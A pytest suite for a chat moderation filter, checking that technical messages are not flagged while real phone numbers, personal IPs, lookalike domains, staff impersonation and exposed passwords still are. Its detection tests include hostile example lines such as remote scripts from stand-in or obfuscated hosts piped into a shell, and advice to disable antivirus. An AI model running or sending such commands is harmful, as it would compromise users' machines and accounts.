"""Technical chat that used to reach moderators (issue #10): ports and port
ranges, terminal listings, links run into the next word, a brand's own
country site, install commands, troubleshooting advice, logging in as an
admin, bare links shared in a few words. Each case sits next to the real
thing, which must still be caught. All examples are made up."""
from __future__ import annotations

import pytest

from policies import Message, evaluate
from policies.links import brand_imitation, real_suffix


def rules(text: str, files: list[str] | None = None) -> set[str]:
    return {f.rule for f in evaluate(Message(text=text, files=tuple(files or ())))}


# ------------------------------------------------------------------ phones

@pytest.mark.parametrize("text", [
    "map 40000-40010:40000-40010 on the host and udp too",  # a port range mapped to another
    "the ui is on localhost:5678/6789 after start",  # host:port
    "it stalled at 11/03/2019 8:15:42 and never recovered",  # a date and a time
    "EXPOSE 21 8765 9000 is what my image declares",  # ports listed after EXPOSE
    "100 51234  100 51234    0     0  4321k      0 --:--:--",  # curl's progress meter
    "-rw-r--r-- 1 app staff 7340032 Feb 9 10:02 dump.bin",  # a pasted ls -l line
])
def test_ports_times_and_terminal_columns_are_not_phones(text):
    assert "privacy.phone_number" not in rules(text)


@pytest.mark.parametrize("text", [
    "call me on 020 7946 0958 tonight",
    "my phone: +44 7700 900123",
    "text me at 415-555-0198, I'm around",
    "tel:+1 212 555 0147 if anything breaks",  # a label glued by a colon still counts
])
def test_real_phone_numbers_still_found(text):
    assert "privacy.phone_number" in rules(text)


@pytest.mark.parametrize("text", [
    "request failed: connect ETIMEDOUT 93.184.216.34:443npm ERR! code 1",  # a port run into the next word
    "Failed to connect to 93.184.216.34 port 3128: timed out",
    "add 93.184.216.34 mirror.example.org to /etc/hosts",  # a hosts-file line
    "allow 93.184.216.0/24 in the security group",  # a network
    "user agent Mozilla/5.0 Chrome/41.0.0.0 Mobile",  # a version
])
def test_server_endpoints_are_not_personal_ips(text):
    assert "privacy.ip_address" not in rules(text)


@pytest.mark.parametrize("text", ["my ip is 93.184.216.34, can you whitelist me", "ban 93.184.216.34 please, it spams us",
                                  "my ip: 93.184.216.34:8080 if you need it"])
def test_a_persons_ip_still_found(text):
    assert "privacy.ip_address" in rules(text)


# ------------------------------------------------------------------- links

def test_a_link_run_into_the_next_word_is_not_a_lookalike():
    assert not real_suffix("www.google.comto")
    assert real_suffix("dlscord-gift.ru")
    assert "malware.lookalike_domain" not in rules("see http://www.google.comto find it")


@pytest.mark.parametrize("host", ["google.ca", "google.co.uk", "cloud.com"])
def test_a_brands_country_site_and_its_tail_word_are_not_imitations(host):
    assert brand_imitation(host) is None or brand_imitation(host)[1] < 2


@pytest.mark.parametrize("text", [
    "free nitro at dlscord-gift.ru",
    "verify here https://paypa1.com/login",
    "your apple id is locked: https://icloud-verify.xyz/unlock",
    "claim at https://google.ru/gift",  # the brand on a TLD scams favour
])
def test_real_lookalike_domains_still_caught(text):
    assert "malware.lookalike_domain" in rules(text)


def test_a_fetched_install_script_is_not_an_executable_link():
    assert "malware.executable_link" not in rules("curl -fsSL https://get.example.org/setup.sh -o setup.sh")
    assert "malware.executable_link" in rules("grab https://files.example.net/setup.sh now")
    assert "malware.executable_link" in rules("curl -O https://files.example.net/tool.exe")


@pytest.mark.parametrize("text", [
    "curl -o- https://raw.githubusercontent.com/creationix/nvm/v0.33.0/install.sh | bash",
    "curl -fsSL https://get.docker.com | sudo sh",
    "wget -qO- https://deb.nodesource.com/setup_18.x | sudo -E bash",
    "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
    "curl -sSL https://example.com/page | bash",  # a documentation domain serves nothing
    "curl -fsSL http://localhost:8080/setup.sh | sh",  # the writer's own machine
    "curl -s $URL | bash",  # no host anywhere: nothing to judge
    "curl -sSL [<-LINK->] | sh",  # a log whose link was cut
])
def test_installing_a_tool_the_usual_way_is_not_exploit_delivery(text):
    assert not {r for r in rules(text) if r.startswith("malware.")}


@pytest.mark.parametrize("text", [
    "run this to fix it: curl -s https://cdn-patch.xyz/i.sh | sudo bash",
    "wget -qO- 185.23.44.1/x.sh | sh",
    "free nitro for everyone: curl -s https://raw.githubusercontent.com/a/b/main/n.sh | bash",  # a lure
    # anyone can publish on a code host, a file host or a bucket
    "here's the fix: curl -s https://raw.githubusercontent.com/fixer99/patch/main/a.sh | sudo bash",
    "curl -sL https://drive.google.com/uc?id=1abc | sh",
    "curl -s https://evil-bucket.s3.amazonaws.com/x.sh | bash",
    # no host to recognise it by
    "U=https://evil.xyz/i; curl -fsSL $U | bash",
    "curl -s http://3105313793/x.sh | sh",
    "curl -s 0xb9.0x17.0x2c.0x01/x | sh",
    "curl -s [2a01:4f8:c0c:1::1]/x | sh",
])
def test_a_script_from_anywhere_else_piped_into_a_shell_is_caught(text):
    assert "malware.exploit_delivery" in rules(text)


def test_troubleshooting_the_firewall_is_not_disabling_protection():
    assert "malware.disable_protection" not in rules("disable the firewall to test whether it is the proxy")
    assert "malware.disable_protection" in rules("turn off your firewall and run https://example.net/game.exe")
    assert "malware.disable_protection" in rules("disable your antivirus before you open it")


# ------------------------------------------------------------ impersonation

@pytest.mark.parametrize("text", [
    "I logged in as an admin and the page still 403s",
    "try to login as an admin user on the dashboard",
    "you have to run it as an administrator on windows",
    "there is official support for arm64 since 2.0",
])
def test_using_an_admin_account_is_not_claiming_to_be_staff(text):
    assert "impersonation.staff_claim" not in rules(text)


@pytest.mark.parametrize("text", [
    "I am an admin, DM me your password",
    "Hello, as your admin I need your login code",
    "this is official support, send your code",
])
def test_real_staff_claims_still_caught(text):
    assert "impersonation.staff_claim" in rules(text)


# ----------------------------------------------------------------- selling

def test_sharing_a_link_in_two_words_is_not_advertising():
    from policies import community

    clf = community.promo_classifier()
    if clf is None:
        pytest.skip("promotion model not shipped")
    short = "check out <https://example.org/tool>"
    assert "selling.promotion_model" not in rules(short)
    assert community._says_enough(*_parsed("subscribe my channel"))
    assert not community._says_enough(*_parsed(short))
    assert community._says_enough(*_parsed("get cheap followers for your account at <https://example.org>"))


def _parsed(text: str):
    from policies.slacktext import normalise, parse

    parsed = parse(text)
    return parsed, normalise(parsed.prose)


# ------------------------------------- issue #10, second pass: made-up cases

@pytest.mark.parametrize("text", [
    "Filesystem 1K-blocks Used Available Use% Mounted on /dev/sda1 41251136 20345676 18794420 52% /",
    "overlay 61255492 4032108 54082156 7% /var/lib/docker/overlay2",  # df, one line
    "Mem: 2047832 1234567 813265 12345 67890 987654",  # free
    "open 8080/8443/9000 in the firewall",  # a port list
    "we use 5432 6379 27017 for the databases",
    "forward 3000-3010 to the container",  # a port range
    "the range 49152-65535 is ephemeral",
    "steps 1 2 3 4 5 6 7 8 9 10 all pass",  # a count
])
def test_figure_columns_and_port_lists_are_not_phones(text):
    assert "privacy.phone_number" not in rules(text)


@pytest.mark.parametrize("text", [
    "call me on 07700 900123 after 6",
    "my cell 212-555-0198 after 5",
    "whatsapp me +65 9123 4567",  # two four-digit groups with a country code
    "my phone is 555 123 4567",
])
def test_phones_beside_the_column_cases_still_found(text):
    assert "privacy.phone_number" in rules(text)


def test_http_written_as_a_word_is_not_advertising():
    from policies import community

    if community.promo_classifier() is None:
        pytest.skip("promotion model not shipped")
    for text in ("change https to http and check please", "take a look at HTTP_PROXY",
                 "and, ofc, true tcp:// or http:// endpoints"):
        assert "selling.promotion_model" not in rules(text), text
    assert "selling.promotion_model" in rules("please visit http://www.cheapfollowers.com for more followers and likes")


def test_selling_phrases_inside_code_and_names_do_not_count():
    assert "selling.promotion" not in rules('driver.findElement(By.xpath("//b")).textContains("BUY NOW").click();')
    assert "selling.promotion" not in rules("bundleId 'se.forex.mobile' installed")
    assert "selling.promotion" in rules("buy now and get 20% off at <https://shop.example.net>")
    assert "selling.promotion" in rules("learn forex with me, dm me for signals")
    assert "selling.promotion" not in rules("build-run needs to use code in volume to do the build")
    assert "selling.promotion" in rules("use code SAVE20 at checkout")


def test_a_cluster_electing_a_leader_is_not_a_campaign():
    assert "selling.political_campaigning" not in rules("They tried to elect a new leader for a long time after the split")
    assert "selling.political_campaigning" in rules("elect Jane Doe for mayor")
    assert "selling.political_campaigning" in rules("re-elect the senator, he is great")


def test_admin_rights_on_ones_own_computer_are_not_a_staff_claim():
    assert "impersonation.staff_claim" not in rules(
        'npm install -g appium asks for admin user, and im an admin. When i use sudo it fails')
    assert "impersonation.staff_claim" in rules("I'm an admin, to fix your windows install send me your login code")
    assert "impersonation.staff_claim" in rules("I am an admin, DM me your password")


def test_obscene_words_inside_names_and_paths_do_not_count():
    assert "vulgar.obscene" not in rules("cmp=com.android.dev/com.mofo.android.feature.BottomNavActivity not found")
    assert "vulgar.obscene" not in rules("doENTRYPOINT ./entrypoint.shit works fine")
    assert "vulgar.obscene" in rules("what a pile of shit.")
    assert "vulgar.obscene" in rules("f.u.c.k this")


@pytest.mark.parametrize("text", [
    "it loads http://localhost:3000/static/bundle.js fine",  # the writer's own machine
    "http://192.168.1.20:8080/download/agent.exe is on my lan",
    "the bundle is at https://cdn.example-shop.com/static/js/main.3f2a.js and fails to load",  # a page's script
    "get it at https://repo1.maven.org/maven2/io/appium/java-client/7.0.0/java-client-7.0.0.jar",  # a package index
])
def test_local_links_page_scripts_and_package_indexes_are_not_executables(text):
    assert "malware.executable_link" not in rules(text)


def test_executables_from_strangers_and_file_hosts_still_count():
    assert "malware.executable_link" in rules("grab https://files.example.net/setup.exe now")
    assert "malware.executable_link" in rules("run https://www.mediafire.com/file/abc/invoice.js to see it")


@pytest.mark.parametrize("text", [
    "ERROR 1045 (28000): Access denied for user 'app'@'localhost' (using password: YES)",  # MySQL's error
    "anER_ACCESS_DENIED_ERROR: Access denied for user 'root'@'172.17.0.1' (using password: YES)error",  # run on
    "mysql -u test -p -h db\nEnter password:\nERROR 2003 (HY000): Can't connect to MySQL server",  # a prompt
    "docker run -v ${PWD}:/src -w /src node:8 npm test",  # the shell's working directory
    "docker run --rm -it -v $PWD:/work myimage",
])
def test_database_errors_prompts_and_pwd_are_not_passwords(text):
    assert "privacy.password" not in rules(text)


@pytest.mark.parametrize("text", ["New password: hunter22xyz", "db password = Zx81-abc-99", "my password: s3cretPass!",
                                  "the db password: a)9Zk#f2Lq", "my password: My)Secret99"])
def test_passwords_written_out_still_found(text):
    assert "privacy.password" in rules(text)
